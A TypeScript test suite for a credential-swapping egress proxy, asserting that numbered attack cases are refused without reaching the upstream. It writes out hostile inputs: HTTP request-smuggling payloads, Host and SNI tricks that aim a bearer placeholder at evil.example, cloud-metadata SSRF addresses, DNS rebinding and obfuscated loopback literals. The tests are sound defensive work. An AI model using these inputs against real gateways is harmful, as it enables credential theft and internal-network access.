// attacks/egress.md, one test per numbered case that does not need a sandbox (15–17 need one; the
// DNS side of 15 is in dns.test.ts). Each asserts what the upstream saw, not only the status.
import assert from "node:assert/strict";
import net from "node:net";
import tls from "node:tls";
import { after, before, describe, it } from "node:test";
import { SECRETS, connect, plainHttp, raw, spec, startHarness, viaConnect, type Harness } from "./helpers.ts";

void describe("attacks/egress.md, against local fake upstreams (test CA on 127.0.0.1)", () => {
  let h: Harness;
  let ph: Record<string, string>;
  let ca: string;
  let caB: string;
  let caC: string;
  before(async () => {
    h = await startHarness();
    const a = await h.gw.register(spec("A"));
    ph = a.placeholders;
    ca = a.caCertPem;
    caB = (await h.gw.register(spec("B", { sourceIp: "127.0.0.2" }))).caCertPem;
    // C: names allowed, but no rule names 127.0.0.1, so private answers must be refused.
    const c = await h.gw.register(spec("C", { sourceIp: "127.0.0.3", policy: { allow: ["api.stripe.com", "allowed.example", "*.example.org"], deny: [] } }));
    caC = c.caCertPem;
  });
  after(async () => h.close());
  const P = () => h.gw.endpoints.proxyPort;
  const seen = () => h.up.seen.length;

  void it("2: CONNECT api.stripe.com:443 then SNI evil.example is refused", async () => {
    const n = seen();
    const { socket } = await connect(P(), "api.stripe.com:443");
    const err = await new Promise<Error | null>((resolve) => {
      const t = tls.connect({ socket, servername: "evil.example", ca }, () => resolve(null));
      t.on("error", resolve);
    });
    assert.ok(err, "handshake must fail");
    assert.equal(seen(), n);
    const rec = h.records.at(-1)!;
    assert.equal(rec.decision, "denied");
    assert.equal(rec.rule, "gateway.sni");
  });

  void it("3: CONNECT to a bound host with inner Host of another host → 421, nothing dialled", async () => {
    const n = seen();
    const r = await viaConnect(P(), ca, "api.stripe.com:443", { headers: { host: "allowed.example", authorization: `Bearer ${ph.STRIPE_API_KEY}` } });
    assert.equal(r.status, 421);
    assert.equal(seen(), n);
  });

  void it("4: CONNECT to another host with inner Host of a bound host + placeholder → refused, no swap", async () => {
    const n = seen();
    const r = await viaConnect(P(), ca, "allowed.example:443", { headers: { host: "api.stripe.com", authorization: `Bearer ${ph.STRIPE_API_KEY}` } });
    assert.equal(r.status, 421);
    assert.equal(seen(), n);
    assert.deepEqual(h.records.at(-1)!.swapped, []);
  });

  void it("5: two Host headers, and absolute-form with userinfo, are refused with nothing dialled", async () => {
    const n = seen();
    const { socket } = await connect(P(), "api.stripe.com:443");
    const t = tls.connect({ socket, servername: "api.stripe.com", ca });
    await new Promise((r) => t.once("secureConnect", r));
    const out = await raw(t, `GET / HTTP/1.1\r\nHost: api.stripe.com\r\nHost: evil.example\r\nAuthorization: Bearer ${ph.STRIPE_API_KEY}\r\n\r\n`);
    assert.match(out, /^HTTP\/1\.1 400/);
    const r = await plainHttp(P(), "http://api.stripe.com@evil.example/", { host: "evil.example", headers: { authorization: `Bearer ${ph.STRIPE_API_KEY}` } });
    assert.equal(r.status, 400);
    assert.equal(seen(), n);
  });

  void it("6: CL+TE and duplicate Content-Length are refused; a GET with a body arrives as exactly one request", async () => {
    const n = seen();
    const smuggle = "GET /smuggled HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n";
    for (const text of [
      `POST / HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggle}`,
      `POST / HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nabcd${smuggle}`,
    ]) {
      const out = await raw(net.connect(h.gw.endpoints.httpPort, "127.0.0.1"), text);
      assert.match(out, /^HTTP\/1\.1 400/);
    }
    assert.equal(seen(), n);
    const out = await raw(net.connect(h.gw.endpoints.httpPort, "127.0.0.1"), `GET /g HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Length: ${smuggle.length}\r\nConnection: close\r\n\r\n${smuggle}`);
    assert.match(out, /^HTTP\/1\.1 200/);
    assert.equal(seen(), n + 1);
    assert.equal(h.up.seen.at(-1)!.url, "/g");
    assert.equal(h.up.seen.at(-1)!.body, smuggle);
  });

  for (const addr of ["127.0.0.1", "10.0.0.5", "169.254.169.254", "::ffff:169.254.169.254", "fd00:ec2::254", "100.64.0.1"]) {
    void it(`7: an allowed name resolving to ${addr} is refused at connect time`, async () => {
      h.dns.set("allowed.example", [addr]);
      const n = seen();
      const r = await plainHttp(P(), "http://allowed.example/", { host: "allowed.example" }, "127.0.0.3");
      h.dns.delete("allowed.example");
      assert.equal(r.status, 403);
      assert.match(r.body, /refused addresses/);
      assert.equal(seen(), n);
      assert.equal(h.records.at(-1)!.rule, "gateway.address");
    });
  }

  void it("8: DNS rebinding: the address checked is the address dialled, and a private second answer is refused", async () => {
    const n = seen();
    h.dns.set("api.stripe.com", ["127.0.0.1"]);
    const before = h.lookups.length;
    let r = await plainHttp(P(), "http://api.stripe.com/one", { host: "api.stripe.com" });
    assert.equal(r.status, 200);
    // One resolution per request: the connect used the vetted answer, not a second lookup.
    assert.equal(h.lookups.length, before + 1);
    h.dns.set("api.stripe.com", ["10.0.0.5"]);
    r = await plainHttp(P(), "http://api.stripe.com/two", { host: "api.stripe.com" });
    h.dns.delete("api.stripe.com");
    assert.equal(r.status, 403);
    assert.equal(seen(), n + 1);
  });

  for (const trick of ["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "[::1]", "[::ffff:7f00:1]"]) {
    void it(`9: IP literal ${trick} is refused`, async () => {
      const n = seen();
      const r = await plainHttp(P(), `http://${trick}/`, { host: trick }, "127.0.0.3");
      assert.equal(r.status, 403);
      assert.equal(seen(), n);
    });
  }

  void it("10: API.STRIPE.COM and api.stripe.com. are normalised (and swapped); a port no rule names is refused", async () => {
    for (const name of ["API.STRIPE.COM", "api.stripe.com."]) {
      const r = await viaConnect(P(), ca, `${name}:443`, { headers: { host: name, authorization: `Bearer ${ph.STRIPE_API_KEY}` } }, name.replace(/\.$/, ""));
      assert.equal(r.status, 200);
      assert.equal(h.up.seen.at(-1)!.headers.authorization, `Bearer ${SECRETS.STRIPE_API_KEY}`);
      assert.equal(h.records.at(-1)!.host, "api.stripe.com");
    }
    const { status } = await connect(P(), "api.stripe.com:8443");
    assert.equal(status, 403);
  });

  void it("18: CONNECT allowed.example:22 and :5432 are refused", async () => {
    for (const port of [22, 5432]) {
      const { status } = await connect(P(), `allowed.example:${port}`);
      assert.equal(status, 403);
      assert.equal(h.records.at(-1)!.reason, `no rule allows allowed.example:${port}`);
    }
  });

  void it("19: a placeholder of session A used from session B is not swapped", async () => {
    const r = await viaConnect(P(), caB, "api.stripe.com:443", { headers: { authorization: `Bearer ${ph.STRIPE_API_KEY}` } }, "api.stripe.com", "127.0.0.2");
    assert.equal(r.status, 200);
    assert.equal(h.up.seen.at(-1)!.headers.authorization, `Bearer ${ph.STRIPE_API_KEY}`);
    assert.equal(h.records.at(-1)!.sessionId, "B");
  });

  void it("20: an upstream reset mid-request fails closed (502)", async () => {
    const r = await viaConnect(P(), ca, "api.stripe.com:443", { path: "/reset", headers: { authorization: `Bearer ${ph.STRIPE_API_KEY}` } });
    assert.equal(r.status, 502);
    assert.equal(h.records.at(-1)!.decision, "denied");
  });

  void it("20: an undecodable content-encoding after a swap fails closed (502)", async () => {
    const r = await viaConnect(P(), ca, "api.stripe.com:443", { path: "/weird-encoding", headers: { authorization: `Bearer ${ph.STRIPE_API_KEY}` } });
    assert.equal(r.status, 502);
  });

  void it("private-address refusal does not apply when a rule names the address (policy of A names 127.0.0.1)", async () => {
    const r = await plainHttp(P(), "http://allowed.example/", { host: "allowed.example" });
    assert.equal(r.status, 200);
    void caC;
  });
});
